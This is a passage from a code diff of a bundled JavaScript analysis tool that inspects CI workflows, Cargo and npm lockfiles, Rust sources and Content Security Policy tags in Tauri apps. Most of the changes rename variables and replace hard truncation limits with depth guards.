     pieces.push({ text: text2.slice(from, at2), isExpression: false });
-    if (end === void 0 || pieces.length > 2 * MOST_EXPRESSIONS)
-      return [...pieces, { text: UNKNOWN_WORDS, isExpression: false }];
-    pieces.push({ text: text2.slice(at2 + 3, end - 2), isExpression: true });
+    if (end === void 0)
+      return [...pieces, { text: `${UNKNOWN_WORDS}${text2.slice(at2)}`, isExpression: false }];
+    const isFollowed = pieces.length < 2 * MOST_EXPRESSIONS && end - at2 < LONGEST_EXPRESSION;
+    pieces.push({ text: isFollowed ? text2.slice(at2 + 3, end - 2) : UNKNOWN_WORDS, isExpression: isFollowed });
     from = end;
   }
   return [...pieces, { text: text2.slice(from), isExpression: false }];
 }
+var STRING_OR_END = /'[^']*'|\}\}/g;
 function endOfExpression(text2, start) {
-  const inner = text2.slice(start, start + LONGEST_EXPRESSION);
-  const closed = /^(?:'[^']*'|[^'}]|\}(?!\}))*\}\}/.exec(inner);
-  return closed === null ? void 0 : start + closed[0].length;
+  STRING_OR_END.lastIndex = start;
+  for (let found8 = STRING_OR_END.exec(text2); found8 !== null; found8 = STRING_OR_END.exec(text2))
+    if (found8[0] === "}}") return STRING_OR_END.lastIndex;
+  return void 0;
 }
 function expressionValues(expression, contexts) {
   return new Evaluation(tokensOf(expression), contexts).all();
@@ -13399,9 +13461,9 @@ function makersOfOtherCi(file2, folders) {
   const shared2 = variablesIn3(parsed7.value, 0);
   return [...entries].flatMap(
     ([name, { value, key }]) => tasksIn(name, value).map(([task, body]) => {
-      const variables = new Map([...shared2, ...variablesIn3(body, DEEPEST)]);
+      const variables = new Map([...shared2, ...variablesIn3(body, MAX_DEPTH)]);
       const start = { folders, variables, args: [[]] };
-      const computed3 = [...computedIn(parsed7.value, 0), ...computedIn(body, DEEPEST)];
+      const computed3 = [...computedIn(parsed7.value, 0), ...computedIn(body, MAX_DEPTH)];
       return {
         key: `${file2.path}#${task}`,
         name: `${baseName(file2.path)}, ${task}`,
@@ -13413,7 +13475,6 @@ function makersOfOtherCi(file2, folders) {
     })
   );
 }
-var DEEPEST = 20;
 function spelledOut(text2) {
   if (!text2.startsWith("[")) return text2;
   const parsed7 = parseJson({ path: "", id: "", text: text2 }, "json");
@@ -13433,7 +13494,7 @@ function makerByLines(file2, folders) {
   return { key: file2.path, name: file2.path, at: at2, parts, ships: true, isForTests: isNamedForTests(file2.path) };
 }
 function scriptsIn(value, depth) {
-  if (depth > DEEPEST) return [];
+  if (depth > MAX_DEPTH) return [];
   if (value.kind === "string") return [scriptAt(withoutTemplates(value.value), "posix", value.at)];
   if (value.kind === "object" && value.entries.get("args")?.value.kind === "array") {
     const [program, args] = [member(value, "command") ?? member(value, "cmd"), member(value, "args")];
@@ -13602,12 +13663,16 @@ var HANDS_ON = /\b(?:echo|printf|Write-Output)\s+["']?([A-Za-z_]\w*)=([^\n]*?)["
 function withHandedOn(variables, steps) {
   const found8 = new Map(variables);
   for (const step of steps) {
-    const text2 = asString(member(step, "run"))?.slice(0, LONGEST_RUN) ?? "";
+    const text2 = asString(member(step, "run")) ?? "";
     if (!text2.includes("GITHUB_ENV")) continue;
+    if (text2.length > LONGEST_RUN) {
+      for (const [name, known6] of found8) found8.set(name, [...known6, [UNKNOWN_WORDS]]);
+      continue;
+    }
     for (const [, name = "", value = ""] of text2.matchAll(HANDS_ON)) {
-      const known5 = found8.get(heededName(name));
+      const known6 = found8.get(heededName(name));
       const isWritten = isKnown(value) && !/[$`%]/.test(value);
-      if (known5 !== void 0) found8.set(name, [...known5, [isWritten ? value : UNKNOWN_WORDS]]);
+      if (known6 !== void 0) found8.set(name, [...known6, [isWritten ? value : UNKNOWN_WORDS]]);
     }
   }
   return found8;
@@ -13890,8 +13955,8 @@ var MOST_RESULTS = 8;
 var Recent = class {
   #results = /* @__PURE__ */ new Map();
   get(key, compute) {
-    const known5 = this.#results.get(key);
-    if (known5 !== void 0) return known5;
+    const known6 = this.#results.get(key);
+    if (known6 !== void 0) return known6;
     const result2 = compute();
     this.#results.set(key, result2);
     const [oldest] = this.#results.keys();
@@ -13990,9 +14055,22 @@ function startedBuilds(app, files, contents) {
     gaps: onePerCause([
       ...causes.slice(0, MOST_CAUSES).map((cause) => gapOf(cause, contents)),
       ...unreadWorkflowGaps(app, files),
-      ...isCut || causes.length > MOST_CAUSES ? [tooManyCommands(app, files)] : []
+      ...leftOut(causes.slice(MOST_CAUSES), isCut, app, files, contents)
     ])
   };
+}
+function leftOut(causes, isCut, app, files, contents) {
+  if (!isCut && causes.length === 0) return [];
+  const paths3 = isCut ? [""] : [...new Set(causes.flatMap(ownPaths))].sort();
+  const ids = mayRunOf(app, files).map(({ id }) => id);
+  return [tooManyCommands(app, [...ids.sort(), ...paths3.map(contents.at)])];
+}
+function ownPaths(cause) {
+  const { ran, on: on3 = [] } = "unseen" in cause ? cause.unseen : { ...cause.write, on: [] };
+  return [...ran.words.flatMap((word2) => pathsIn(word2, ran.folders)), ...on3];
+}
+function runsTooMuch(app, files) {
+  return app !== null && commandsOfMakers(app, files).isCut;
 }
 var MOST_CAUSES = 200;
 function causesOf(made2, app) {
@@ -14015,9 +14093,10 @@ function madeByAll(app, files, contents) {
   return { made: made2, isCut };
 }
 function filesBehind(app, files, contents) {
-  const causes = causesOf(madeByAll(app, files, contents).made, app).slice(0, MOST_CAUSES);
+  const causes = causesOf(madeByAll(app, files, contents).made, app);
   return new Set(
-    causes.flatMap((cause) => {
+    causes.flatMap((cause, position) => {
+      if (position >= MOST_CAUSES) return ownPaths(cause);
       const { ran, on: on3 = [] } = "unseen" in cause ? cause.unseen : { ...cause.write, on: [] };
       return [...cause.dependencies(ran).paths, ...on3, ...on3.map((folder) => `${folder}/`)];
     })
@@ -14029,16 +14108,19 @@ function layersOf(builds2) {
   );
 }
 function commandsOfMakers(app, files) {
+  const read7 = mayRunOf(app, files);
+  const key = JSON.stringify([app, read7.map(({ path, id }) => [path, id])]);
+  return RECENT.get(key, () => commandsIn(app, new Map(read7.map((file2) => [file2.path, file2]))));
+}
+function mayRunOf(app, files) {
   const taken3 = [...files.values()].filter(({ path }) => mayStartBuilds(path, app)).flatMap((file2) => filesTakenIn(file2, files));
   const besides = /* @__PURE__ */ new Set([
     ...cargoWorkspace(app.root, files).settings.map(({ at: at2 }) => at2.path),
     ...taken3.map(({ path }) => path)
   ]);
-  const read7 = [...files.values()].filter(
+  return [...files.values()].filter(
     ({ path }) => mayStartBuilds(path, app) || mayBeScript(path) || besides.has(path)
   );
-  const key = JSON.stringify([app, read7.map(({ path, id }) => [path, id])]);
-  return RECENT.get(key, () => commandsIn(app, new Map(read7.map((file2) => [file2.path, file2]))));
 }
 var RECENT = new Recent();
 function mayBeScript(path) {
@@ -14047,6 +14129,8 @@ function mayBeScript(path) {
 function commandsIn(app, files) {
   const runnable = runnableOf(files);
   const budget = new Budget();
+  const starting = [...files.values()].filter(({ path }) => mayStartBuilds(path, app));
+  if (starting.some((file2) => filesTakenIn(file2, files).length >= MOST_TAKEN_IN)) budget.leaveOut();
   const runs2 = makersOf(app, files).map((maker2) => ({
     maker: maker2,
     commands: maker2.parts.flatMap(({ script, start }) => allCommandsRun(script, start, runnable, budget))
@@ -14243,8 +14327,8 @@ function readSpec(spec) {
 
 // src/tauri/cargo/local-crates.ts
 function localCrates(workspace, files) {
-  const known5 = reached.get(workspace);
-  if (known5 !== void 0) return known5;
+  const known6 = reached.get(workspace);
+  if (known6 !== void 0) return known6;
   const found8 = /* @__PURE__ */ new Map();
   const todo = workspace.own === void 0 ? [] : [workspace.own];
   const add3 = (folder) => todo.push(...manifestIn2(folder, files));
@@ -14362,11 +14446,11 @@ var TRIPLES = [
   [/-windows/, "windows"],
   [/-linux/, "linux"]
 ];
-var DEEPEST2 = 32;
+var DEEPEST = 32;
 function holds(target, platform) {
   if (target === null) return true;
   const condition = /^\s*cfg\s*\(([\s\S]*)\)\s*$/.exec(target)?.[1];
-  if (condition !== void 0) return new Condition(condition, platform).read();
+  if (condition !== void 0) return new Condition(condition, platform).whole();
   const named8 = TRIPLES.find(([pattern]) => pattern.test(target))?.[1];
   return named8 === void 0 || named8 === platform ? void 0 : false;
 }
@@ -14374,17 +14458,27 @@ var Condition = class {
   #tokens;
   #platform;
   #at = 0;
+  #isTooDeep = false;
   constructor(text2, platform) {
     this.#tokens = text2.match(/[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|[(),=]/g) ?? [];
     this.#platform = platform;
   }
-  read(depth = 0) {
+  whole() {
+    const found8 = this.#read(0);
+    return this.#isTooDeep ? void 0 : found8;
+  }
+  #read(depth) {
+    if (depth > DEEPEST) {
+      this.#isTooDeep = true;
+      this.#at = this.#tokens.length;
+      return void 0;
+    }
     const name = this.#next();
     if (this.#takes("=")) return this.#hasValue(name, this.#next().replaceAll('"', ""));
     if (!this.#takes("(")) return this.#isSet(name);
     const parts = [];
-    while (depth < DEEPEST2 && this.#at < this.#tokens.length && !this.#takes(")")) {
-      parts.push(this.read(depth + 1));
+    while (this.#at < this.#tokens.length && !this.#takes(")")) {
+      parts.push(this.#read(depth + 1));
       this.#takes(",");
     }
     return joined4(name, parts);
@@ -14484,8 +14578,8 @@ var Resolution = class {
   #node(path, unit, isRoot = false) {
     const key = this.#key(path, unit);
     const crate2 = this.#crates.get(path);
-    const known5 = this.#nodes.get(key);
-    if (known5 !== void 0 || crate2 === void 0) return known5;
+    const known6 = this.#nodes.get(key);
+    if (known6 !== void 0 || crate2 === void 0) return known6;
     const node = {
       crate: crate2,
       unit,
@@ -14779,16 +14873,16 @@ function indexOf(packages) {
 }
 function file(index, key, each) {
   const own = each.source.kind === "path" ? each : void 0;
-  const known5 = index.get(key);
-  if (known5 === void 0) {
+  const known6 = index.get(key);
+  if (known6 === void 0) {
     index.set(key, { first: each, count: 1, own, owns: own === void 0 ? 0 : 1, oneVersion: true });
     return;
   }
-  known5.count += 1;
-  known5.oneVersion &&= known5.first.version === each.version;
+  known6.count += 1;
+  known6.oneVersion &&= known6.first.version === each.version;
   if (own === void 0) return;
-  known5.own = own;
-  known5.owns += 1;
+  known6.own = own;
+  known6.owns += 1;
 }
 function keyOf(parts) {
   return JSON.stringify(parts);
@@ -15227,8 +15321,8 @@ function shared(a3, b5) {
 
 // src/engine/standing-code.ts
 function standingCode(base, head, { base: there, head: here }) {
-  const known5 = new Set(base.filter(isCode2).map(({ role, path }) => `${role} ${path}`));
-  const added = head.filter(isCode2).filter(({ role, path }) => !known5.has(`${role} ${path}`));
+  const known6 = new Set(base.filter(isCode2).map(({ role, path }) => `${role} ${path}`));
+  const added = head.filter(isCode2).filter(({ role, path }) => !known6.has(`${role} ${path}`));
   const stands = (path) => there.contents.isFile(path) && there.contents.at(path) === here.contents.at(path);
   const isThere = (path, role) => role === "install-script" && there.contents.isFile(path);
   const sharesCode = (folder) => here.listing.entries.some(({ path }) => path.startsWith(folder) && path.endsWith(".rs") && stands(path));
@@ -15644,9 +15738,9 @@ function macrosIn(file2) {
   return file2 === void 0 ? BUILT_IN : new Map([...BUILT_IN, ...prepared(file2).macros]);
 }
 function prepared(file2) {
-  const known5 = read3.get(file2) ?? prepare(file2.path, readGitAttributes(file2.text));
-  read3.set(file2, known5);
-  return known5;
+  const known6 = read3.get(file2) ?? prepare(file2.path, readGitAttributes(file2.text));
+  read3.set(file2, known6);
+  return known6;
 }
 function prepare(path, { rules: rules2, macros }) {
   return {
@@ -16219,10 +16313,10 @@ function sizeOf({ accepting }) {
 
 // src/language/remembered.ts
 var MOST = 4096;
-var MOST_STEPS3 = 3e7;
+var MOST_STEPS2 = 3e7;
 var MOST_FOR_ONE = 1e7;
 function remembered(answer) {
-  const known5 = /* @__PURE__ */ new Map();
+  const known6 = /* @__PURE__ */ new Map();
   const ofReviews = /* @__PURE__ */ new WeakMap();
   let kept = 0;
   return (question, work) => {
@@ -16240,14 +16334,14 @@ function remembered(answer) {
     return own;
   }
   function paidFor(question, work) {
-    const outcome2 = known5.get(question) ?? keep2(question, outcomeOf(answer, question));
+    const outcome2 = known6.get(question) ?? keep2(question, outcomeOf(answer, question));
     pay(question, outcome2, work);
     return outcome2;
   }
   function keep2(question, outcome2) {
-    if (known5.size >= MOST || kept > MOST_STEPS3) known5.clear();
-    kept = known5.size === 0 ? outcome2.steps : kept + outcome2.steps;
-    known5.set(question, outcome2);
+    if (known6.size >= MOST || kept > MOST_STEPS2) known6.clear();
+    kept = known6.size === 0 ? outcome2.steps : kept + outcome2.steps;
+    known6.set(question, outcome2);
     return outcome2;
   }
   function pay(question, outcome2, work) {
@@ -16679,10 +16773,10 @@ var WORDS2 = {
   "\\b{end-half}": (_3, after2) => after2 !== "in"
 };
 var atWords = (of2, holds6) => {
-  const known5 = LOOKS2.get(of2) ?? /* @__PURE__ */ new Map();
-  LOOKS2.set(of2, known5);
-  const found8 = known5.get(holds6) ?? look(of2, holds6);
-  known5.set(holds6, found8);
+  const known6 = LOOKS2.get(of2) ?? /* @__PURE__ */ new Map();
+  LOOKS2.set(of2, known6);
+  const found8 = known6.get(holds6) ?? look(of2, holds6);
+  known6.set(holds6, found8);
   return found8;
 };
 var LOOKS2 = /* @__PURE__ */ new WeakMap();
@@ -17105,13 +17199,13 @@ var FILES = [
 // src/readers/cargo-lock/needs.ts
 function neededCrates(base, head) {
   const inBase = new Set(base.map(identityOf2));
-  const known5 = Map.groupBy(base, (crate2) => crate2.name);
+  const known6 = Map.groupBy(base, (crate2) => crate2.name);
   const added = Map.groupBy(
     head.filter((crate2) => !inBase.has(identityOf2(crate2))),
     (crate2) => crate2.name
   );
   return [...added].flatMap(([name, crates]) => {
-    const old = known5.get(name) ?? [];
+    const old = known6.get(name) ?? [];
     const risk = riskOf(name, old);
     return [...crates, ...old].flatMap((crate2) => needOf(crate2, risk) ?? []);
   });
@@ -17212,8 +17306,8 @@ function buildScriptTarget(manifest2, folder) {
 
 // src/tauri/cargo/built-code.ts
 function builtCode(project) {
-  const known5 = found2.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = found2.get(project);
+  if (known6 !== void 0) return known6;
   const code2 = builtCrates(project).flatMap((built) => codeOf2(built, project.contents));
   found2.set(project, code2);
   return code2;
@@ -17335,9 +17429,9 @@ function lockedNeeds(workspace, files) {
   );
 }
 function needsBeside(workspace, files) {
-  const known5 = new Set(localCrates(workspace, files).map(({ manifest: manifest2 }) => manifest2.path));
+  const known6 = new Set(localCrates(workspace, files).map(({ manifest: manifest2 }) => manifest2.path));
   return [...files.keys()].flatMap((path) => {
-    if (baseName(path) !== "Cargo.toml" || known5.has(path) || !isMember(workspace, folderOf(path))) return [];
+    if (baseName(path) !== "Cargo.toml" || known6.has(path) || !isMember(workspace, folderOf(path))) return [];
     const manifest2 = readManifest(files.get(path));
     if (manifest2?.name === void 0) return [];
     return dependenciesOf(manifest2, workspace.root).map((dependency) => ({ dependency, path }));
@@ -17505,7 +17599,6 @@ function decoys(own, folder, files) {
 }
 
 // src/tauri/cargo/profile.ts
-var MOST_STEPS4 = 16;
 function debugProfile(root, files, { debug, profile }) {
   const manifest2 = cargoWorkspace(root, files).root?.value;
   const sources = [...cargoConfigs(root, files), ...manifest2 === void 0 ? [] : [manifest2]];
@@ -17516,13 +17609,13 @@ function debugProfile(root, files, { debug, profile }) {
   return { all: asBoolean(said2) === false ? void 0 : all, crates: ofCrates(chain, sources) };
 }
 function chainOf(name, sources) {
-  const chain = [name];
-  for (let at2 = name; chain.length < MOST_STEPS4; chain.push(at2)) {
-    const parent = asString(settingIn(sources, "profile", at2, "inherits"));
-    if (parent === void 0) break;
-    at2 = parent;
+  const chain = /* @__PURE__ */ new Set([name]);
+  for (let at2 = name; at2 !== void 0; ) {
+    at2 = asString(settingIn(sources, "profile", at2, "inherits"));
+    if (at2 === void 0 || chain.has(at2)) break;
+    chain.add(at2);
   }
-  return chain;
+  return [...chain];
 }
 function firstOf(names2, find2) {
   for (const name of names2) {
@@ -17914,20 +18007,25 @@ function readPage(html) {
   };
 }
 function metaPoliciesIn(elements) {
-  const loaded = [];
+  let first;
+  let since = [];
   const found8 = [];
   for (const element of elements) {
     const { name, attributes: attributes2, parent, line } = element;
     const isPolicy = attributes2.get("http-equiv")?.toLowerCase() === "content-security-policy";
     const content = attributes2.get("content");
-    if (name === "meta" && parent === "head" && isPolicy && content !== void 0)
-      found8.push({ content: withoutHeaderOnly(content), line, behind: [...loaded] });
+    if (name === "meta" && parent === "head" && isPolicy && content !== void 0) {
+      const behind2 = first === void 0 ? null : { first, since };
+      found8.push({ content: withoutHeaderOnly(content), line, behind: behind2 });
+      since = [];
+    }
     const load = loadedBy(element);
-    if (load !== void 0 && loaded.length < MOST_BEHIND) loaded.push(load);
+    if (load === void 0) continue;
+    first ??= load;
+    since.push(load);
   }
   return found8;
 }
-var MOST_BEHIND = 50;
 function loadedBy({ name, attributes: attributes2 }) {
   if (name === "script") return attributes2.get("src") ?? attributes2.get("href") ?? "a script in the page";
   const isSheet = name === "link" && /\bstylesheet\b/i.test(attributes2.get("rel") ?? "");
@@ -17960,7 +18058,6 @@ function frontendOf(config, major) {
   return { server, frontend: { names: files.map(({ value }) => value), at: dist.at } };
 }
 var DEEPEST_PAGE = 3;
-var MOST_PAGES = 40;
 var SOURCES = ["index.html", "src/index.html", "public/index.html", "src/app.html"];
 function mayBeFrontPage(path, root) {
   if (!/(?:^|\/)(?:index|app)\.html$/.test(path)) return false;
@@ -17973,7 +18070,7 @@ function frontPages(project, frontend) {
     ...SOURCES.map((name) => inFolder(folderOf(location.root), name))
   ]);
   const others = [...files.keys()].filter((path) => !likely.has(path) && mayBeFrontPage(path, location.root));
-  const found8 = [...likely, ...others].flatMap((path) => files.get(path) ?? []).slice(0, MOST_PAGES);
+  const found8 = [...likely, ...others].flatMap((path) => files.get(path) ?? []);
   return found8.map((file2) => ({
     path: file2.path,
     id: file2.id,
@@ -18257,7 +18354,7 @@ function ungoverned(project, settings2, pages) {
   return settings2.windows.flatMap(({ url, at: at2 }) => {
     const seen = pathsOf(project, settings2.frontend, url).flatMap((path) => project.files.get(path) ?? []);
     if (seen.length === 0 && !/\.x?html?$/i.test(url)) return [];
-    const others = new Set(seen.map((file2) => policiesOf({ marks: marksOf(file2) })));
+    const others = new Set(seen.map(policiesOfFile));
     if (others.size > 0 && others.isSubsetOf(policies)) return [];
     return [
       gapAt(at2, {
@@ -18271,6 +18368,10 @@ function ungoverned(project, settings2, pages) {
 var NONE2 = "[]";
 function policiesOf({ marks }) {
   return JSON.stringify(marks.metaPolicies.map(({ content }) => content));
+}
+function policiesOfFile(file2) {
+  const marks = marksOf(file2);
+  return marks.isCut ? file2.id : policiesOf({ marks });
 }
 function saying(url, others) {
   const what = others.size === 0 ? "which can't be seen here" : others.has(NONE2) ? "which brings no Content Security Policy" : "which brings a Content Security Policy of its own";
@@ -18387,10 +18488,11 @@ function placesOf2(settings2, directives, page) {
   return places2;
 }
 function governsLess({ path }, { content, line, behind: behind2 }) {
-  const [first] = behind2;
-  if (first === void 0) return [];
-  const message = `This Content Security Policy comes after ${code(first)}, which it doesn't govern: put it before everything that the page loads.`;
-  return [gapAt({ path, line }, { kind: "not-checked", rests: wordsOf("behind", content, behind2), message })];
+  if (behind2 === null) return [];
+  const message = `This Content Security Policy comes after ${code(behind2.first)}, which it doesn't govern: put it before everything that the page loads.`;
+  return [
+    gapAt({ path, line }, { kind: "not-checked", rests: wordsOf("behind", content, behind2.since), message })
+  ];
 }
 function cutOff({ path, id }) {
   return gapIn(path, {
@@ -18691,7 +18793,7 @@ function isBundledBy({ bundles, requirements }, { location }) {
 
 // src/formats/npm-lock.ts
 var [OLDEST, NEWEST2] = [2, 4];
-var DEEPEST3 = 128;
+var DEEPEST2 = 128;
 var KNOWN_KEYS = /* @__PURE__ */ new Set(["name", "version", "lockfileVersion", "requires", "packages", "dependencies"]);
 function readNpmLock(file2) {
   const parsed7 = parseFile(file2);
@@ -18757,16 +18859,16 @@ function packagesIn(table2) {
   }
   return { packages, gaps };
 }
-function faultOf(location, known5) {
-  const parts = location.split("/", DEEPEST3 + 1);
-  if (parts.length > DEEPEST3) {
+function faultOf(location, known6) {
+  const parts = location.split("/", DEEPEST2 + 1);
+  if (parts.length > DEEPEST2) {
     const message2 = `${code(location)} lies deeper than npm would nest it and was not compared.`;
     return { kind: "truncated", message: message2 };
   }
   const climbs = parts.findIndex((part) => part !== "..");
   const inside = climbs < 0 ? [""] : parts.slice(climbs);
   const isPlain = location === "" || inside.every((part) => part !== "" && part !== "." && part !== "..");
-  if (isPlain && !location.includes("\\") && !known5.has(location.toLowerCase())) return void 0;
+  if (isPlain && !location.includes("\\") && !known6.has(location.toLowerCase())) return void 0;
   const message = `${code(location)} is another spelling of a folder, so it isn't known which entry npm takes. Let npm write the lockfile anew.`;
   return { kind: "not-followed", message };
 }
@@ -19589,11 +19691,10 @@ function isMoving(text2) {
 }
 
 // src/readers/npm-lock/overrides.ts
-var DEEPEST4 = 16;
 function overridesIn(manifest2) {
   const own = new Map(requirementsOf(manifest2, false).map(({ name, text: text2 }) => [name, text2]));
   const read7 = (table2, within4) => {
-    if (table2?.kind !== "object" || within4.length > DEEPEST4) return [];
+    if (table2?.kind !== "object") return [];
     return [...table2.entries].flatMap(([key, { value }]) => {
       const { name, range } = keyOf2(key === "." ? within4.at(-1) ?? "" : key);
       const text2 = asString(value);
@@ -19694,11 +19795,11 @@ function manifestsOf3(lock, folder, { files }) {
   return found8;
 }
 function newBundles(lock, { manifest: manifest2 }) {
-  const known5 = lock.packages.get("")?.bundles ?? [];
+  const known6 = lock.packages.get("")?.bundles ?? [];
   return ["bundleDependencies", "bundledDependencies"].flatMap((field2) => {
     const value = member(manifest2, field2);
     const names2 = stringsOf(value).map((each) => each.value);
-    const isNew2 = asBoolean(value) === true ? known5 !== "all" : names2.some((name) => !known5.includes(name));
+    const isNew2 = asBoolean(value) === true ? known6 !== "all" : names2.some((name) => !known6.includes(name));
     if (value === void 0 || !isNew2) return [];
     const message = `${code(field2)} isn't in ${code(baseName(lock.path))}: npm fetches what such packages bring along, pinned by nothing. Commit the lockfile that npm writes.`;
     return [
@@ -19741,10 +19842,10 @@ function whoAsks(location, entry) {
 function neededArchives(base, head) {
   const before2 = base === null ? [] : installedBy(base);
   const inBase = new Set(before2.map(identityOf3));
-  const known5 = Map.groupBy(before2, ({ each }) => each.name);
+  const known6 = Map.groupBy(before2, ({ each }) => each.name);
   const added = installedBy(head).filter((locked) => !inBase.has(identityOf3(locked)));
   return added.flatMap((locked) => {
-    const old = known5.get(locked.each.name) ?? [];
+    const old = known6.get(locked.each.name) ?? [];
     const need = needOf2(locked, old.length === 0 ? "new name" : "known name");
     return need === void 0 ? [] : [need, ...old.flatMap((other) => needOf2(other, "before") ?? [])];
   });
@@ -20275,7 +20376,7 @@ function endOf(pattern, text2, at2) {
 
 // src/formats/rust/source.ts
 var MOST_TOKENS = 1e6;
-var DEEPEST5 = 1e3;
+var DEEPEST3 = 1e3;
 function rustSource(file2) {
   try {
     return { file: file2, tokens: paired(file2.text), fault: null };
@@ -20299,7 +20400,7 @@ function paired(text2) {
     token2.parent = open.at(-1) ?? -1;
     tokens.push(token2);
     if (token2.kind === "open") {
-      if (open.length >= DEEPEST5)
+      if (open.length >= DEEPEST3)
         throw new RustFault("its brackets stand in one another too deep", token2.start);
       open.push(tokens.length - 1);
     } else if (token2.kind === "close") {
@@ -20328,12 +20429,12 @@ function requirementsOf2(source, { from }) {
   const [predicate] = argumentsAt(source, from + 1);
   return predicate === void 0 ? [] : neededFor(source, predicate, 0);
 }
-var DEEPEST6 = 32;
+var DEEPEST4 = 32;
 var NEVER = { kind: "never", name: "any()" };
 function neededFor(source, predicate, depth) {
   const { tokens } = source;
   const [word2, next2] = [tokens[predicate.from], tokens[predicate.from + 1]];
-  if (word2?.kind !== "word" || depth > DEEPEST6) return [];
+  if (word2?.kind !== "word" || depth > DEEPEST4) return [];
   if (isOpen(next2, "(")) {
     const parts = argumentsAt(source, predicate.from + 1).map((part) => neededFor(source, part, depth + 1));
     if (word2.text === "all") return parts.flat();
@@ -20362,7 +20463,7 @@ function isCustomCondition(name) {
 }
 
 // src/formats/rust/expression.ts
-var DEEPEST7 = 200;
+var DEEPEST5 = 200;
 function expressionIn(source, stretch, depth = 0) {
   const { tokens } = source;
   let { from } = stretch;
@@ -20370,7 +20471,7 @@ function expressionIn(source, stretch, depth = 0) {
     from += 1;
   const span = spanOf(source, { from, to: stretch.to });
   const other = { kind: "other", span };
-  const first = depth > DEEPEST7 ? null : primary(source, { from, to: stretch.to }, depth);
+  const first = depth > DEEPEST5 ? null : primary(source, { from, to: stretch.to }, depth);
   if (first === null) return other;
   let { expression, next: next2 } = first;
   for (let length = 0; next2 < stretch.to; length += 1) {
@@ -20378,7 +20479,7 @@ function expressionIn(source, stretch, depth = 0) {
       next2 += 1;
       continue;
     }
-    const method = length > DEEPEST7 ? null : methodAt(source, next2, stretch.to);
+    const method = length > DEEPEST5 ? null : methodAt(source, next2, stretch.to);
     if (method === null) return other;
     const { name, open } = method;
     expression = {
@@ -20486,17 +20587,17 @@ function appCrates({ location, files, manifest: manifest2 }) {
   ];
 }
 function knowingTauri(crates) {
-  const known5 = new Set(crates.filter(knowsTauri).map(({ manifest: manifest2 }) => manifest2.folder));
-  for (let size = -1; size < known5.size; ) {
-    size = known5.size;
+  const known6 = new Set(crates.filter(knowsTauri).map(({ manifest: manifest2 }) => manifest2.folder));
+  for (let size = -1; size < known6.size; ) {
+    size = known6.size;
     for (const { manifest: manifest2, dependencies } of crates) {
       const reaches2 = dependencies.some(
-        ({ kind, source }) => kind === "normal" && source.kind === "path" && source.folder !== null && known5.has(source.folder)
+        ({ kind, source }) => kind === "normal" && source.kind === "path" && source.folder !== null && known6.has(source.folder)
       );
-      if (reaches2) known5.add(manifest2.folder);
+      if (reaches2) known6.add(manifest2.folder);
     }
   }
-  return crates.filter(({ manifest: manifest2 }) => known5.has(manifest2.folder));
+  return crates.filter(({ manifest: manifest2 }) => known6.has(manifest2.folder));
 }
 function knowsTauri({ dependencies, isMacro }) {
   return isMacro || dependencies.some(({ kind, crate: crate2 }) => kind === "normal" && crate2.startsWith("tauri"));
@@ -20525,8 +20626,8 @@ function isInMacro(groups3) {
 }
 
 // src/formats/rust/imports.ts
-var DEEPEST8 = 20;
-var LONGEST_PATH2 = 32;
+var DEEPEST6 = 1e3;
+var LONGEST_PATH2 = 128;
 function importsIn(source, keyword, to) {
   const { tokens } = source;
   if (isKeyword(tokens[keyword], "extern") && !isKeyword(tokens[keyword + 1], "crate")) return [];
@@ -20542,7 +20643,7 @@ function treeIn(source, { from, to }, prefix, depth) {
   for (; at2 < to; at2 += 2) {
     const token2 = tokens[at2];
     const path = [...prefix, ...names2];
-    if (path.length > LONGEST_PATH2 || depth > DEEPEST8) return [];
+    if (path.length > LONGEST_PATH2 || depth > DEEPEST6) return [];
     if (isMark(token2, "*")) return [{ path, as: "*" }];
     if (isOpen(token2, "{"))
       return splitBy(source, ",", insideOf2(tokens, at2)).flatMap(
@@ -20568,8 +20669,12 @@ function itemsOf2(source) {
   for (let at2 = 0; at2 < tokens.length; at2 += 1) if (tokens[at2]?.kind === "word") reader.itemAt(at2);
   return reader;
 }
-var LONGEST_HEADER = 200;
-var LONGEST_VALUE = 500;
+var KINDS = { static: "const", trait: "impl" };
+var ITEMS = ["fn", "const", "impl"];
+function kindOf(token2) {
+  const text2 = token2?.text ?? "";
+  return KINDS[text2] ?? text2;
+}
 var ItemReader = class {
   functions = [];
   constants = [];
@@ -20642,8 +20747,9 @@ var ItemReader = class {
     const equals = indexOfMark(this.#tokens, "=", typed);
     if (equals < 0) return;
     let end = equals + 1;
-    for (let steps = 0; !isMark(this.#tokens[end], ";"); end = after(this.#tokens, end), steps += 1)
-      if (steps > LONGEST_VALUE || end >= this.#endOfGroup(keyword)) return;
+    const to = this.#endOfGroup(keyword);
+    for (; !isMark(this.#tokens[end], ";"); end = after(this.#tokens, end))
+      if (end >= to || ITEMS.some((kind) => this.#begins(kind, end))) return;
     this.constants.push({
       name: this.#tokens[name]?.text ?? "",
       keyword,
@@ -20689,9 +20795,18 @@ var ItemReader = class {
   #header(keyword) {
     const to = this.#endOfGroup(keyword);
     let at2 = keyword + 1;
-    for (let steps = 0; at2 < to && steps < LONGEST_HEADER; at2 = after(this.#tokens, at2), steps += 1)
+    const kind = kindOf(this.#tokens[keyword]);
+    for (; at2 < to && !this.#begins(kind, at2); at2 = after(this.#tokens, at2))
       if (isMark(this.#tokens[at2], ";") || isOpen(this.#tokens[at2], "{")) break;
     return at2;
+  }
+  /** Whether an item of a kind begins here. `fn(…)` is a type, and `const {` a block. */
+  #begins(kind, at2) {
+    const token2 = this.#tokens[at2];
+    if (token2 === void 0 || kindOf(token2) !== kind || !isKeyword(token2, token2.text)) return false;
+    if (kind === "impl") return true;
+    const isNamed4 = this.#tokens[at2 + 1]?.kind === "word";
+    return isNamed4 && (kind === "fn" || isMark(this.#tokens[at2 + 2], ":"));
   }
   /** The end of the group around a token. */
   #endOfGroup(at2) {
@@ -20736,8 +20851,8 @@ function bringingMacros(files) {
 // src/tauri/rust/modules.ts
 var read4 = /* @__PURE__ */ new WeakMap();
 function referencesIn(file2) {
-  const known5 = read4.get(file2);
-  if (known5 !== void 0) return known5;
+  const known6 = read4.get(file2);
+  if (known6 !== void 0) return known6;
   const found8 = referencesOf(rustSource(file2));
   read4.set(file2, found8);
   return found8;
@@ -20827,9 +20942,9 @@ function inclusionsIn(source) {
     return [{ kind: "include", at: at2, isMaybe: !isInclude, argument, written: written6 }];
   });
 }
-var DEEPEST9 = 64;
+var DEEPEST7 = 64;
 function moduleFiles({ name, path: always, maybe, within: within4 }, path, ownsFolder) {
